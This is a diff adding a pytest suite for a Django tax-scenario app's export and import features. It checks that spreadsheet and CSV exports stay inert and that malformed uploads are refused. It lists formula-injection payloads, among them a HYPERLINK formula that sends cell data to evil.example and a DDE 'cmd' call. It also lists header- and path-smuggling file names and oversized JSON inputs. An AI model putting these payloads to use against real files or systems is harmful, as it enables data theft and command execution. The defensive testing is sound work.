@@ -1,0 +1,353 @@
+from __future__ import annotations
+
+import csv
+import io
+import json
+import re
+import zipfile
+from http import HTTPStatus
+from typing import Any
+
+import pytest
+from django.core.files.uploadedfile import SimpleUploadedFile
+from openpyxl import load_workbook
+
+from amtweb.exchange.csv_text import csv_of
+from amtweb.exchange.tables import Table
+from amtweb.exchange.workbook import LONGEST_TEXT, fitting
+from amtweb.scenarios.bench import result_of
+from amtweb.scenarios.gallery import Example, examples
+from amtweb.scenarios.models import Scenario
+from amtweb.scenarios.working_copy import DOCUMENT
+from calculator.worksheet import worksheets
+from tests.web.reading import Page
+from tests.web.visitors import Visitor
+
+pytestmark = pytest.mark.django_db
+
+EXAMPLES = [pytest.param(example, id=example.slug) for example in examples()]
+FORMULA = '=HYPERLINK("http://evil.example?"&A1,"see")'
+FULLWIDTH = "\uff1d\uff0b\uff0d\uff20"
+PAYLOADS = (
+    *(FORMULA, "+1+1", "-1+1", "@SUM(1,1)", "=cmd|' /C calc'!A0"),
+    *(
+        "http://evil.example/",
+        *(f"{sign}1+1" for sign in FULLWIDTH),
+        'a","=1+1',
+        "mailto:a@b.example",
+    ),
+)
+FILES = {
+    "scenario.json": ("amtweb-kept.json", "application/json"),
+    "years.csv": ("amtweb-kept-years.csv", "text/csv; charset=utf-8"),
+    "lines.csv": ("amtweb-kept-lines.csv", "text/csv; charset=utf-8"),
+    "inputs.csv": ("amtweb-kept-inputs.csv", "text/csv; charset=utf-8"),
+    "workbook.xlsx": (
+        "amtweb-kept.xlsx",
+        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
+    ),
+}
+
+
+@pytest.fixture
+def owner() -> Visitor:
+    return Visitor()
+
+
+def kept(visitor: Visitor, document: dict[str, Any]) -> Scenario:
+    """The visitor's scenario of just this document."""
+    scenario = visitor.saved(title="Kept")
+    scenario.draft, scenario.title = document, document.get("title", "")
+    scenario.save()
+    return scenario
+
+
+def file_of(visitor: Visitor, scenario: Scenario, name: str) -> bytes:
+    response = visitor.client.get(f"{scenario.get_absolute_url()}download/{name}")
+    assert response.status_code == HTTPStatus.OK
+    return bytes(response.content)
+
+
+def rows_of(content: bytes) -> list[list[Any]]:
+    text = io.StringIO(content.decode("utf-8-sig"), newline="")
+    return list(csv.reader(text, quoting=csv.QUOTE_NONNUMERIC))
+
+
+def brought(visitor: Visitor, content: bytes, path: str = "/import/") -> Any:
+    file = SimpleUploadedFile("scenario.json", content, content_type="application/json")
+    return visitor.client.post(path, {"document": file})
+
+
+def minimal(**changes: Any) -> dict[str, Any]:
+    return {"schema_version": 1, "years": [{"year": 2026, "wages": 200_000}]} | changes
+
+
+def named(title: str) -> dict[str, Any]:
+    """A scenario with a text of the visitor's wherever there can be one."""
+    return minimal(
+        title=title,
+        notes=title,
+        grants=[
+            {"id": title, "kind": "iso", "date": "2023-01-15", "shares": 100, "strike": 1.5},
+        ],
+        exercises=[
+            {
+                "id": "e1",
+                "grant": title,
+                "date": "2026-03-02",
+                "shares": 100,
+                "fair_market_value": 21.5,
+            }
+        ],
+    )
+
+
+@pytest.mark.parametrize("example", EXAMPLES)
+def test_what_is_downloaded_is_the_same_scenario_when_it_is_imported(
+    owner: Visitor, example: Example
+) -> None:
+    scenario = kept(owner, example.document)
+    other = Visitor()
+
+    response = brought(other, file_of(owner, scenario, "scenario.json"))
+
+    assert response.status_code == HTTPStatus.FOUND
+    assert response["Location"] == "/"
+    assert other.client.session[DOCUMENT] == example.document
+    again = other.saved()
+    assert result_of(again.draft).to_dict() == result_of(example.document).to_dict()
+
+
+def test_the_bench_and_the_library_lead_to_the_downloads(owner: Visitor) -> None:
+    scenario = owner.saved(title="Kept")
+    address = f"{scenario.get_absolute_url()}download/"
+
+    for path in (scenario.get_absolute_url(), "/scenarios/"):
+        links = [a.attributes.get("href") for a in owner.page(path).all("a")]
+        assert links.count(address) == 1
+    offered = {
+        a.attributes.get("href", "").removeprefix(address) for a in owner.page(address).all("a")
+    }
+    assert offered >= FILES.keys()
+
+
+def test_the_library_takes_a_file(owner: Visitor) -> None:
+    page = owner.page("/scenarios/")
+
+    (form,) = (f for f in page.all("form") if f.attributes["action"] == "/import/")
+    assert form.attributes["enctype"] == "multipart/form-data"
+    (control,) = (e for e in form.elements if e.attributes.get("type") == "file")
+    assert control.attributes["name"] == "document"
+
+
+@pytest.mark.parametrize("name", FILES)
+def test_a_file_is_to_be_kept_and_is_its_owners_alone(owner: Visitor, name: str) -> None:
+    scenario = owner.saved(title="Kept")
+    file_name, content_type = FILES[name]
+
+    response = owner.client.get(f"{scenario.get_absolute_url()}download/{name}")
+
+    assert response["Content-Disposition"] == f'attachment; filename="{file_name}"'
+    assert response["Content-Type"] == content_type
+    assert response["X-Content-Type-Options"] == "nosniff"
+    assert response["Cache-Control"] == "private, no-store"
+    stranger = Visitor().client.get(f"{scenario.get_absolute_url()}download/{name}")
+    assert stranger.status_code == HTTPStatus.NOT_FOUND
+    assert "Content-Disposition" not in stranger
+
+
+@pytest.mark.parametrize(
+    "title",
+    ['"\r\nSet-Cookie: a=b', "../../etc/passwd", "a;b\\c", "税", "é" * 120, "con", "", ".."],
+)
+def test_no_title_makes_an_unsafe_file_name(owner: Visitor, title: str) -> None:
+    scenario = kept(owner, minimal())
+    scenario.title = title
+    scenario.save()
+
+    response = owner.client.get(f"{scenario.get_absolute_url()}download/years.csv")
+
+    header = response["Content-Disposition"]
+    assert re.fullmatch(r'attachment; filename="amtweb-[a-z0-9_-]{1,60}-years\.csv"', header)
+
+
+@pytest.mark.parametrize("example", EXAMPLES)
+def test_the_tables_hold_every_amount_of_the_result(owner: Visitor, example: Example) -> None:
+    scenario = kept(owner, example.document)
+    result = result_of(example.document)
+
+    heading, *years = rows_of(file_of(owner, scenario, "years.csv"))
+    lines = rows_of(file_of(owner, scenario, "lines.csv"))[1:]
+
+    for name in ("year", "amt", "credit_balance", "federal_tax"):
+        column = heading.index(name)
+        assert [row[column] for row in years] == [getattr(y, name) for y in result.years]
+    assert [row[4] for row in lines] == [
+        line.amount for y in result.years for sheet in worksheets(y.forms) for line in sheet.lines
+    ]
+
+
+@pytest.mark.parametrize("example", EXAMPLES)
+def test_the_workbook_holds_what_the_csv_files_hold(owner: Visitor, example: Example) -> None:
+    scenario = kept(owner, example.document)
+
+    book = load_workbook(io.BytesIO(file_of(owner, scenario, "workbook.xlsx")))
+
+    assert book.sheetnames == ["Years", "Lines", "Inputs"]
+    for sheet in ("Years", "Lines"):
+        rows = [list(row) for row in book[sheet].values]
+        # A workbook holds 16 or 17 significant digits.
+        expected = rows_of(file_of(owner, scenario, f"{sheet.lower()}.csv"))
+        assert [[type(cell) is str for cell in row] for row in rows] == [
+            [type(cell) is str for cell in row] for row in expected
+        ]
+        assert [
+            [cell if isinstance(cell, str) else pytest.approx(cell) for cell in row]
+            for row in expected
+        ] == rows
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_text_in_a_workbook_is_never_a_formula_or_a_link(owner: Visitor, payload: str) -> None:
+    content = file_of(owner, kept(owner, named(payload)), "workbook.xlsx")
+
+    cells = [cell for sheet in load_workbook(io.BytesIO(content)) for row in sheet for cell in row]
+    assert payload in [cell.value for cell in cells if cell.data_type == "s"]
+    assert not [cell for cell in cells if cell.data_type == "f" or cell.hyperlink]
+    with zipfile.ZipFile(io.BytesIO(content)) as parts:
+        sheets = [parts.read(name) for name in parts.namelist() if "/worksheets/" in name]
+        assert len(sheets) == 3
+        assert not [sheet for sheet in sheets if b"<f>" in sheet or b"<f " in sheet]
+        assert not [name for name in parts.namelist() if "external" in name or "vba" in name]
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_text_in_csv_never_begins_a_formula(owner: Visitor, payload: str) -> None:
+    rows = rows_of(file_of(owner, kept(owner, named(payload)), "inputs.csv"))
+
+    values = {row[0]: row[2] for row in rows}
+    assert all(len(row) == 3 for row in rows)
+    assert values["title"].removeprefix("'") == payload
+    assert values["grants[0].id"] == values["exercises[0].grant"] == values["title"]
+    texts = [cell for row in rows for cell in row if isinstance(cell, str)]
+    assert not [text for text in texts if text.startswith(tuple(f"=+-@\t\r\n{FULLWIDTH}"))]
+
+
+def test_a_negative_number_stays_a_number() -> None:
+    table = Table("T", ("text", "number"), (("-5", -5), ("\t=1", -5.5)), in_dollars=False)
+
+    expected = '"text","number"\r\n"\'-5",-5\r\n"\'\t=1",-5.5\r\n'
+    assert expected == csv_of(table).decode("utf-8-sig")
+
+
+def test_text_that_is_too_long_for_a_cell_is_marked_where_it_is_cut() -> None:
+    assert fitting("a" * LONGEST_TEXT) == "a" * LONGEST_TEXT
+    cut = fitting("a" * (LONGEST_TEXT + 1))
+    assert len(cut) == LONGEST_TEXT
+    assert cut.endswith("… (cut)")
+
+
+def text_of(**changes: Any) -> bytes:
+    return json.dumps(minimal(**changes)).encode()
+
+
+HOSTILE = {
+    "nothing": b"",
+    "blanks": b" \n ",
+    "not JSON": b"<html>",
+    "cut short": text_of()[:-1],
+    "two documents": text_of() * 2,
+    "a list": b"[1, 2]",
+    "null": b"null",
+    "text": b'"scenario"',
+    "not UTF-8": b'{"title": "\xff"}',
+    "UTF-16": text_of().decode().encode("utf-16"),
+    "a byte order mark": b"\xef\xbb\xbf" + text_of(),
+    "deep": b'{"years": ' + b"[" * 100_000 + b"]" * 100_000 + b"}",
+    "deep and never closed": b'{"a":' * 150_000,
+    "NaN": text_of(years=[{"year": 2026, "wages": float("nan")}]),
+    "infinity": text_of(years=[{"year": 2026, "wages": float("inf")}]),
+    "a number that overflows": text_of().replace(b"200000", b"1e999"),
+    "a million digits": text_of().replace(b"200000", b"9" * 1_000_000),
+    "a duplicate key": text_of().replace(b'"years"', b'"title": "a", "title": "b", "years"'),
+    "a duplicate key further in": text_of().replace(b'"wages"', b'"wages": 1, "wages"'),
+    "no version": b'{"years": [{"year": 2026}]}',
+    "a later version": text_of(schema_version=2),
+    "a version in words": text_of(schema_version="1"),
+    "true for the version": text_of(schema_version=True),
+    "no years": text_of(years=[]),
+    "years of another type": text_of(years={"year": 2026}),
+    "a number as text": text_of(years=[{"year": 2026, "wages": "1"}]),
+    "true for a number": text_of(years=[{"year": 2026, "wages": True}]),
+    "a list for a number": text_of(years=[{"year": 2026, "wages": [1, 2]}]),
+    "an unknown field": text_of(owner="someone"),
+    "a prototype": text_of(__proto__={"a": 1}, constructor={}),
+    "a control character": text_of(title="a\x00b"),
+    "half a character": text_of(title="\ud800"),
+    "half a character in a key": text_of(**{"\ud800\x00": 1}),
+    "no character": text_of(title="\uffff"),
+    "a long title": text_of(title="a" * 121),
+    "a long identifier": text_of(grants=[{"id": "g" * 65}]),
+    "far too many years": text_of(years=[{"year": 2026}] * 30_000),
+    "many unknown fields": text_of(**{f"field{i}": i for i in range(50_000)}),
+    "a wrong last row": text_of(
+        years=[{"year": 2026}, {"year": 2027}, {"year": 2028, "wages": -1}]
+    ),
+    "a day that is none": text_of(grants=[{"id": "g", "kind": "iso", "date": "2023-02-30"}]),
+    "what is not modelled": text_of(household={"state": "CA"}),
+}
+
+
+@pytest.mark.parametrize("content", HOSTILE.values(), ids=HOSTILE)
+def test_a_file_that_cannot_be_used_leaves_everything_as_it_was(
+    owner: Visitor, content: bytes
+) -> None:
+    owner.edit(htmx=True, title="Being worked on")
+    before = dict(owner.client.session)
+
+    response = brought(owner, content)
+
+    assert response.status_code == HTTPStatus.UNPROCESSABLE_ENTITY
+    (problems,) = (e for e in Page(response.content).all("section"))
+    assert "Nothing was imported" in problems.text
+    assert dict(owner.client.session) == before
+    assert Scenario.objects.count() == 0
+
+
+def test_everything_that_is_wrong_with_a_file_is_said_at_once(owner: Visitor) -> None:
+    wrong = text_of(title=7, years=[{"year": 2026, "wages": "lots"}], grantz=[])
+
+    page = Page(brought(owner, wrong).content)
+
+    paths = [code.text for code in page.all("code")]
+    assert sorted(paths) == ["grantz", "title", "years[0].wages"]
+
+
+@pytest.mark.parametrize("size", [1024 * 1024 + 1, 3 * 1024 * 1024])
+def test_a_file_that_is_too_large_is_refused_by_its_size(owner: Visitor, size: int) -> None:
+    response = brought(owner, text_of().ljust(size))
+
+    assert response.status_code == HTTPStatus.REQUEST_ENTITY_TOO_LARGE
+    assert "The file is larger than 1,024 KiB." in response.content.decode()
+    assert DOCUMENT not in owner.client.session
+
+
+def test_a_file_of_the_largest_size_is_taken(owner: Visitor) -> None:
+    assert brought(owner, text_of().ljust(1024 * 1024)).status_code == HTTPStatus.FOUND
+
+
+@pytest.mark.parametrize("data", [{}, {"document": '{"schema_version": 1}'}])
+def test_without_a_file_nothing_is_imported(owner: Visitor, data: dict[str, str]) -> None:
+    response = owner.client.post("/import/", data)
+
+    assert response.status_code == HTTPStatus.UNPROCESSABLE_ENTITY
+    assert "Choose a file first." in response.content.decode()
+    assert DOCUMENT not in owner.client.session
+
+
+def test_what_an_import_would_replace_is_said_before(owner: Visitor) -> None:
+    assert "takes the place" not in owner.page("/import/").find("main").text
+
+    owner.edit(htmx=True, title="Being worked on")
+
+    assert "takes the place" in owner.page("/import/").find("main").text
